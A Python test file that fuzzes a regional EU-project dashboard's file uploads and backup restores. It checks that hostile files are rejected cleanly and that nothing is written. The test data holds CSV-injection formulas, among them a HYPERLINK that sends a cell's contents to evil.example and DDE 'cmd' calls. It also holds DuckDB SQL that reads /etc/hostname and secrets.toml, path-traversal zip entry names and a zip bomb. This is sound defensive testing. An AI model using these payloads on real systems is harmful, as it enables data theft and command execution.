"""Uploads under attack: every file the app accepts (EU project files, the coordinator's template, a backup
of the app's store) is fuzzed with hypothesis — wrong columns, wrong types, wrong encodings, binary
garbage, spreadsheet formulas, empty files — plus one 50 MB file.

What must hold: a bad file gives errors that name the row and the column (or, when no row can be read, one
clear file-level message), never a traceback; nothing is written (warehouse CURRENT, data/raw with the
inbox, the app's store); formulas accepted as text leave the app only defused (CSV injection).

The parser is fuzzed in-process (the CLI's own `main`, the code the app runs as a subprocess), which keeps
hypothesis fast; a few representative files then take the app's real path through subprocesses.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from dashboard import export
from dashboard.core import store as state
from dashboard.core.auth import EDITOR, User
from dashboard.funding import imports as projects_import
from etl.build import REPO
from etl.sources import eu_cli, eu_parse

pytestmark = pytest.mark.integration

EDITOR_USER = User("koordinaattori@example.fi", EDITOR, "oidc")
FORMATS = eu_parse.formats()
COLUMNS = FORMATS["template"]["columns"]  # the template's header, as the app offers it for download
KNOWN_HEADERS = {eu_parse.norm(alias) for spec in FORMATS["format"].values() for aliases in spec["fields"].values()
                 for alias in aliases}  # fmt: skip
FIELDS = {name for spec in FORMATS["format"].values() for name in spec["fields"]}
REASONS = {"missing_code", "missing_name", "unparseable_amount", "negative_amount", "unparseable_date",
           "end_before_start", "unknown_municipality", "duplicate_code", "control_character", "no_rows"}  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1", "=cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?\d+([.,]\d+)?([eE][-+]?\d+)?")  # a number, not a formula: left as it is
FUZZ = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
BIG_MB = 50

# ---------------------------------------------------------------------------------------------- strategies
# A municipality the template accepts: one of the region's own, from its name (the lookup is the ETL's).
MUNICIPALITY = st.sampled_from(["Karstula", "Kinnula", "Kivijärvi", "Kannonkoski", "Kyyjärvi", "Pihtipudas",
                                "Saarijärvi", "Viitasaari"])  # fmt: skip
VALID_AMOUNT = st.one_of(
    st.just(""), st.integers(0, 10**9).map(str), st.integers(0, 10**7).map(lambda n: f"{n:,}".replace(",", " ") + " €")
)
# Text where a number belongs: letters (no e, which "EUR"/"1e3" could absorb), optionally after digits.
BAD_AMOUNT = st.builds(lambda d, w: f"{d}{w}", st.sampled_from(["", "3,5 ", "12 "]),
                       st.text("abcdfghijklmnopqstvwxyzäö", min_size=1, max_size=8))  # fmt: skip
VALID_DATE = st.one_of(st.just(""), st.dates(date(1900, 1, 1)).map(lambda d: d.strftime("%d.%m.%Y")))
BAD_DATE = st.one_of(st.sampled_from(["32.13.2020", "2020-02-30", "eilen", "1.1.", "31/31/2031"]),
                     st.text("abcdfghijklmnopqstvwxyz", min_size=1, max_size=8))  # fmt: skip
SAFE_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=40)
CELL_TEXT = st.one_of(SAFE_TEXT, st.sampled_from(FORMULAS))


@st.composite
def template_rows(draw, bad: bool) -> tuple[list[dict], set[tuple[int, str]]]:
    """Template rows and the (row, field) of every cell that must be reported as unparseable."""
    rows, expected = [], set()
    for index in range(draw(st.integers(1, 6))):
        line = index + 2  # the header is row 1
        row = {c: "" for c in COLUMNS}
        row.update(hankekoodi=f"FUZZ{index:03d}", hankkeen_nimi=draw(CELL_TEXT).strip() or "Nimi",
                   kunnat=draw(MUNICIPALITY), toteuttaja=draw(CELL_TEXT), huomiot=draw(CELL_TEXT))  # fmt: skip
        for column, field in (("myonnetty_eur", "granted"), ("toteutunut_eur", "realised")):
            broken = bad and draw(st.booleans())
            row[column] = draw(BAD_AMOUNT if broken else VALID_AMOUNT)
            if broken:
                expected.add((line, field))
        for column, field in (("alkupvm", "start"), ("loppupvm", "end")):
            broken = bad and draw(st.booleans())
            row[column] = draw(BAD_DATE if broken else VALID_DATE)
            if broken:
                expected.add((line, field))
        if (line, "start") not in expected and (line, "end") not in expected and row["alkupvm"] and row["loppupvm"]:
            start, end = (datetime.strptime(row[c], "%d.%m.%Y") for c in ("alkupvm", "loppupvm"))
            if end < start:  # an end before the start is a row error of its own: not what these rows test
                row["alkupvm"], row["loppupvm"] = row["loppupvm"], row["alkupvm"]
        rows.append(row)
    return rows, expected


def to_csv_bytes(rows: list[dict], columns: list[str] = COLUMNS, encoding: str = "utf-8", sep: str = ",") -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, delimiter=sep, lineterminator="\n", extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding, errors="replace")


def to_xlsx_bytes(header: list, rows: list[list]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in [header, *rows]:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


WRONG_HEADER = st.lists(st.text("abcdefghijklmnopqrstuvwxyzåäö_ ", min_size=1, max_size=12), min_size=1, max_size=8).filter(
    lambda names: not {eu_parse.norm(n) for n in names} & KNOWN_HEADERS
)  # fmt: skip
XLSX_CELL = st.one_of(st.none(), st.booleans(), st.integers(-(10**12), 10**12), st.floats(allow_nan=False, allow_infinity=False),
                      st.datetimes(datetime(1900, 3, 1), datetime(9999, 12, 31)),
                      SAFE_TEXT.filter(lambda s: not s.startswith("=")))  # fmt: skip


@st.composite
def hostile_upload(draw) -> tuple[bytes, str]:
    """Any of the ways an upload goes wrong, as (bytes, file name)."""
    kind = draw(
        st.sampled_from(["garbage", "empty", "wrong_columns", "wrong_types", "encoding", "xlsx_types", "xlsx_garbage"])
    )
    if kind == "garbage":
        return draw(st.binary(min_size=1, max_size=4096)), draw(st.sampled_from(["x.csv", "x.txt"]))
    if kind == "empty":
        return draw(st.sampled_from([b"", b"\n\n", b"\xef\xbb\xbf", b" ; ; \n"])), "tyhja.csv"
    if kind == "wrong_columns":
        header = draw(WRONG_HEADER)
        return to_csv_bytes([dict.fromkeys(header, "1")], header, sep=draw(st.sampled_from([",", ";", "\t"]))), "x.csv"
    rows, _ = draw(template_rows(bad=True).filter(lambda table: table[1]))  # at least one bad cell
    if kind == "wrong_types":
        return to_csv_bytes(rows), "pohja.csv"
    if kind == "encoding":
        return to_csv_bytes(
            rows, encoding=draw(st.sampled_from(["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-32"]))
        ), "pohja.csv"
    if kind == "xlsx_types":
        cells = draw(
            st.lists(st.lists(XLSX_CELL, min_size=len(COLUMNS), max_size=len(COLUMNS)), min_size=1, max_size=4)
        )
        cells[0][COLUMNS.index("myonnetty_eur")] = draw(BAD_AMOUNT)  # so the file is surely invalid
        return to_xlsx_bytes(COLUMNS, cells), "pohja.xlsx"
    return draw(st.binary(min_size=1, max_size=2048)), "vienti.xlsx"


# ----------------------------------------------------------------------------------------------- helpers
@pytest.fixture(scope="module", autouse=True)
def fast_lookup():
    """The municipality lookup reads the classification from the snapshot: once per module, not per example."""
    lookup = eu_cli.lookup(eu_cli.Paths.default())
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(eu_cli, "lookup", lambda paths: lookup)
        yield lookup


def run_cli(*argv: str) -> tuple[int, dict]:
    """`python -m etl.sources.eu_cli …` in this process: its exit code and its JSON report."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = eu_cli.main(list(argv))
    return code, json.loads(out.getvalue())


def tree(path: Path) -> dict[str, str]:
    """Every file under `path` with its sha256: what 'nothing was written' is checked against."""
    if not path.exists():
        return {}
    return {p.relative_to(path).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(path.rglob("*")) if p.is_file()}  # fmt: skip


def writes(data_dir: Path) -> dict:
    """The warehouse pointer and files, data/raw (archive, manifest and inbox) and the app store's audit log."""
    warehouse = data_dir / "warehouse"
    return {"current": (warehouse / "CURRENT").read_text(encoding="utf-8"),
            "warehouses": sorted(p.name for p in warehouse.glob("*.duckdb")), "raw": tree(data_dir / "raw"),
            "audit": len(state.query("audit_log", {"limit": 100_000})),
            "projects": len(state.query("proj_projects"))}  # fmt: skip


def assert_row_level(report: dict, rows_in_file: int | None = None) -> None:
    """Each error names a row of the file and one of the known columns, with a known reason."""
    assert report["errors"], report
    for error in report["errors"]:
        assert isinstance(error["row"], int) and error["row"] >= 2, error  # row 1 is the header
        if rows_in_file is not None:
            assert error["row"] <= rows_in_file + 1, error
        assert error["field"] in FIELDS and error["reason"] in REASONS, error
    assert report["error_count"] == len(report["errors"])


def assert_clear_message(report: dict) -> None:
    message = report["message"]
    assert message and "Traceback" not in message and "\n" not in message and len(message) < 400, message


# ---------------------------------------------------------------------------------- the parser, in-process
@FUZZ
@given(upload=hostile_upload())
def test_hostile_files_get_a_report_and_archive_nothing(upload, tmp_path: Path) -> None:
    """The CLI's `archive` (validate, then archive): a bad file is reported and never reaches data/raw."""
    data, name = upload
    example = tmp_path / hashlib.sha256(data + name.encode()).hexdigest()[:16]
    example.mkdir(exist_ok=True)
    path = example / f"upload{Path(name).suffix}"
    path.write_bytes(data)
    code, report = run_cli("--data-dir", str(example / "data"), "archive", str(path), "--name", name)
    assert code in (eu_cli.EXIT_INVALID, eu_cli.EXIT_UNREADABLE) and not report["ok"], report
    if code == eu_cli.EXIT_INVALID:
        assert_row_level(report)
    else:
        assert_clear_message(report)
    assert not (example / "data").exists()  # no archive, no manifest line, nothing


@FUZZ
@given(table=template_rows(bad=True), sep=st.sampled_from([",", ";", "\t"]))
def test_wrong_types_are_named_by_row_and_column(table, sep, tmp_path: Path) -> None:
    rows, expected = table
    path = tmp_path / "pohja.csv"
    path.write_bytes(to_csv_bytes(rows, sep=sep))
    code, report = run_cli("validate", str(path), "--name", "pohja.csv")
    found = {(e["row"], e["field"]) for e in report["errors"] if e["reason"].startswith("unparseable")}
    assert found == expected
    assert code == (eu_cli.EXIT_INVALID if report["errors"] else eu_cli.EXIT_OK)
    if report["errors"]:
        assert_row_level(report, rows_in_file=len(rows))


@FUZZ
@given(header=WRONG_HEADER, encoding=st.sampled_from(["utf-8", "latin-1", "utf-16"]))
def test_wrong_columns_are_refused_with_one_clear_message(header, encoding, tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(to_csv_bytes([dict.fromkeys(header, "=1+1")], header, encoding=encoding))
    code, report = run_cli("validate", str(path), "--name", "x.csv")
    assert code == eu_cli.EXIT_UNREADABLE and report["message"].startswith("unknown format")


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_a_latin1_template_reads_like_the_utf8_one(encoding: str, tmp_path: Path) -> None:
    """Older exports are Windows-1252: the parser falls back to it, so ä and ö survive."""
    rows = [dict.fromkeys(COLUMNS, "") | {"hankekoodi": "FUZZ1", "hankkeen_nimi": "Kärkihanke Äänekoski-Pihtipudas",
                                          "kunnat": "Kivijärvi", "myonnetty_eur": "1 000"}]  # fmt: skip
    path = tmp_path / "pohja.csv"
    path.write_bytes(to_csv_bytes(rows, encoding=encoding))
    code, report = run_cli("validate", str(path), "--name", "pohja.csv")
    assert code == eu_cli.EXIT_OK, report
    assert report["records"][0]["name"] == rows[0]["hankkeen_nimi"] and report["records"][0]["granted"] == 1000


# --------------------------------------------------------------------------------- formulas (CSV injection)
def defused(cell: object) -> bool:
    text = "" if cell is None else str(cell)
    return not text.startswith(FORMULA_START) or bool(PLAIN_NUMBER.fullmatch(text))


@FUZZ
@given(table=template_rows(bad=False))
def test_formulas_are_kept_as_text_and_leave_the_app_defused(table, tmp_path: Path) -> None:
    """A formula in a text cell is data (a project may really be called '=Kasvu'); the template keeps it
    verbatim, and the app's CSV and XLSX downloads never hand it to a spreadsheet as a live formula."""
    rows, _ = table
    path = tmp_path / "pohja.csv"
    path.write_bytes(to_csv_bytes(rows))
    code, report = run_cli("validate", str(path), "--name", "pohja.csv")
    assert code == eu_cli.EXIT_OK, report
    import pandas as pd

    records = pd.DataFrame(report["records"])[["project_code", "name", "implementer", "notes", "granted"]]
    names = [eu_parse._text(r["hankkeen_nimi"]) for r in rows]
    assert records["name"].tolist() == names  # kept as the text it was, formula or not
    for row in csv.reader(io.StringIO(export.to_csv(records).decode("utf-8-sig"))):
        assert all(defused(cell) for cell in row), row
    sheet = load_workbook(io.BytesIO(export.to_xlsx(records, "hankkeet"))).active
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f" and defused(cell.value), (cell.coordinate, cell.value)


# ---------------------------------------------------------------------------------- the app's own import path
@pytest.fixture
def env(data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TILANNEKUVA_DATA_DIR", str(data_dir))
    monkeypatch.setenv("TILANNEKUVA_STATE", str(tmp_path / "app_state.duckdb"))
    (data_dir / "raw" / "eu_funds" / "inbox").mkdir(parents=True, exist_ok=True)
    (data_dir / "raw" / "eu_funds" / "inbox" / "odottaa.csv").write_text("a file waiting for the next build\n")
    return data_dir


BAD_ROW_1 = {"hankekoodi": "FUZZ1", "hankkeen_nimi": "=HYPERLINK(1)", "kunnat": "Karstula", "myonnetty_eur": "3,5 milj.",
             "alkupvm": "32.13.2020"}  # fmt: skip
BAD_ROW_2 = {"hankekoodi": "FUZZ2", "hankkeen_nimi": "B", "kunnat": "Tuntematon kunta", "toteutunut_eur": "@SUM(A1)"}
APP_CASES = {
    "wrong_types.csv": to_csv_bytes([dict.fromkeys(COLUMNS, "") | BAD_ROW_1, dict.fromkeys(COLUMNS, "") | BAD_ROW_2]),
    "wrong_columns.xlsx": to_xlsx_bytes(["Nimi", "Summa", "Kunta"], [["=1+1", 5, "Karstula"]]),
    # UTF-16 with a byte-order mark is read (tests/unit/test_etl_guards.py); without one it is refused by name.
    "utf16.csv": "hankekoodi,hankkeen_nimi,kunnat\nFUZZ1,Nimi,Karstula\n".encode("utf-16-le"),
    "empty.csv": b"",
}


def test_bad_uploads_through_the_app_write_nothing(env: Path) -> None:
    """dashboard.funding.imports → `python -m etl.sources.eu_cli` subprocesses, as the editor page runs it."""
    before = writes(env)
    for name, data in APP_CASES.items():
        result = projects_import.import_file(EDITOR_USER, data, name)
        assert not result.ok and result.stage == "validate", (name, result)
        if name == "wrong_types.csv":
            assert {(e["row"], e["field"], e["reason"]) for e in result.report["errors"]} == {
                (2, "granted", "unparseable_amount"), (2, "start", "unparseable_date"),
                (3, "realised", "unparseable_amount"), (3, "municipalities", "unknown_municipality")}  # fmt: skip
        else:
            assert_clear_message(result.report)
        assert writes(env) == before, name


# ------------------------------------------------------------------------------------------------ 50 MB
@pytest.fixture(scope="module")
def big_upload(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[int]]:
    """A 50 MB template (made once): 500-odd projects with a 100 KB description each, every 50th row with a
    granted amount that is text. Returns the file and the rows that must be reported."""
    filler = ("Hankkeen kuvaus on pitkä ja perusteellinen. " * 2500)[:100_000]
    lines, bad, size = [",".join(COLUMNS)], [], 0
    while size < BIG_MB * 1024 * 1024:
        index = len(lines) - 1
        amount = "yli miljoona" if index % 50 == 7 else "1000"
        if index % 50 == 7:
            bad.append(index + 2)  # the header is row 1
        row = dict.fromkeys(COLUMNS, "") | {"hankekoodi": f"BIG{index:05d}", "hankkeen_nimi": f"Iso hanke {index}",
                                            "kunnat": "Karstula", "kuvaus": filler, "myonnetty_eur": amount}  # fmt: skip
        lines.append(",".join(row[c] for c in COLUMNS))  # no cell needs quoting
        size += len(lines[-1]) + 1
    path = tmp_path_factory.mktemp("big") / "iso.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path, bad


def test_an_upload_over_the_limit_is_refused_before_anything_runs(env: Path, big_upload, monkeypatch) -> None:
    path, _ = big_upload
    limit = projects_import.upload_limit_mb()
    assert limit == 20 and path.stat().st_size > limit * 1024 * 1024  # .streamlit/config.toml maxUploadSize
    monkeypatch.setattr(projects_import, "_run", lambda *a, **k: pytest.fail("the CLI must not run"))
    before = writes(env)
    result = projects_import.import_file(EDITOR_USER, path.read_bytes(), "iso.csv")
    assert not result.ok and result.report["reason"] == "too_large" and result.report["limit_mb"] == limit
    assert result.report["size_mb"] >= BIG_MB and writes(env) == before


def test_the_cli_validates_50_mb_without_hanging_or_bloating(big_upload) -> None:
    """The validator itself (no limit of its own: it also checks archived register files) on 50 MB: it
    finishes, reports exactly the bad rows, and stays within a bounded multiple of the file in memory."""
    path, bad = big_upload
    out = path.with_suffix(".json")
    started = time.monotonic()
    with out.open("wb") as stdout:
        process = subprocess.Popen([sys.executable, "-m", "etl.sources.eu_cli", "validate", str(path)], cwd=REPO,
                                   stdout=stdout, stderr=subprocess.PIPE)  # fmt: skip
        timer = threading.Timer(180, process.kill)  # a hang fails the test instead of stalling the suite
        timer.start()
        try:
            _, status, usage = os.wait4(process.pid, 0)
        finally:
            timer.cancel()
        process.returncode = os.waitstatus_to_exitcode(status)
    seconds, peak_mb = time.monotonic() - started, usage.ru_maxrss / 1024
    report = json.loads(out.read_text(encoding="utf-8"))
    assert process.returncode == eu_cli.EXIT_INVALID, process.stderr.read()[-2000:]
    assert [e["row"] for e in report["errors"]] == bad and {e["field"] for e in report["errors"]} == {"granted"}
    assert peak_mb < 1024, f"peak memory {peak_mb:.0f} MB for a {BIG_MB} MB file"
    print(f"eu_cli validate {BIG_MB} MB: {seconds:.1f} s, peak {peak_mb:.0f} MB")


# ------------------------------------------------------------------------------------ restoring the store
HOSTILE_SQL = [
    "COPY (SELECT 'pwned') TO '{target}';",
    "CREATE TABLE leak AS SELECT * FROM read_text('/etc/hostname');",
    "ATTACH '{victim}' AS victim;",
    "INSTALL httpfs;",
    "LOAD httpfs;",
    "SET enable_external_access = true;",
    "CREATE TABLE leak AS SELECT * FROM read_csv('{secrets}');",
]


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "app_state.duckdb"
    monkeypatch.setenv("TILANNEKUVA_STATE", str(path))
    state.write("koordinaattori@example.fi", "create", "note", "1", [], after={"note": "before the restore"})
    return path


def with_members(archive: bytes, extra: dict[str, str]) -> bytes:
    """A store export with text appended to some of its members (or new members added)."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for name in source.namelist():
            out.writestr(name, source.read(name) + extra.pop(name, "").encode())
        for name, text in extra.items():
            out.writestr(name, text)
    return buffer.getvalue()


@st.composite
def hostile_archive(draw, export_zip: bytes, target: Path, victim: Path) -> bytes:
    kind = draw(st.sampled_from(["bytes", "zip_names", "sql"]))
    if kind == "bytes":
        return draw(
            st.one_of(st.binary(max_size=2048), st.just(export_zip[: draw(st.integers(0, len(export_zip) - 1))]))
        )
    if kind == "zip_names":
        names = draw(st.lists(st.sampled_from(["../schema.sql", "a/load.sql", "schema.sql", "/etc/x", "..", "x.parquet"]),
                              min_size=1, max_size=4, unique=True))  # fmt: skip
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as out:
            for name in names:
                out.writestr(name, "SELECT 1;")
        return buffer.getvalue()
    statement = draw(st.sampled_from(HOSTILE_SQL)).format(target=target, victim=victim,
                                                          secrets=REPO / ".streamlit" / "secrets.toml")  # fmt: skip
    member = draw(st.sampled_from(["schema.sql", "load.sql"]))
    return with_members(export_zip, {member: f"\n{statement}\n"})


def test_restore_refuses_hostile_archives_and_keeps_the_store(store: Path, tmp_path: Path) -> None:
    export_zip = state.export_store()
    target, victim = tmp_path / "pwned.csv", tmp_path / "victim.duckdb"
    before = store.read_bytes()

    @FUZZ
    @given(archive=hostile_archive(export_zip, target, victim))
    def check(archive: bytes) -> None:
        with pytest.raises(state.StoreError) as refused:
            state.restore_store(archive)
        message = str(refused.value)
        assert "\n" not in message and "Stack Trace" not in message and len(message) < 400, message
        assert store.read_bytes() == before and not target.exists() and not victim.exists()
        assert not store.with_name(store.name + ".restore").exists()

    check()
    state.restore_store(export_zip)  # the genuine export still restores
    assert state.query("audit_log", {"limit": 5})["after_json"].str.contains("before the restore").any()


def test_restore_refuses_an_archive_that_unpacks_too_large(store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(state, "RESTORE_MAX_BYTES", 1024 * 1024)  # the mechanism, not 512 MB of test data
    bomb = with_members(state.export_store(), {"padding.parquet": " " * (2 * 1024 * 1024)})
    before = store.read_bytes()
    with pytest.raises(state.StoreError, match="unpacks to more than"):
        state.restore_store(bomb)
    assert store.read_bytes() == before
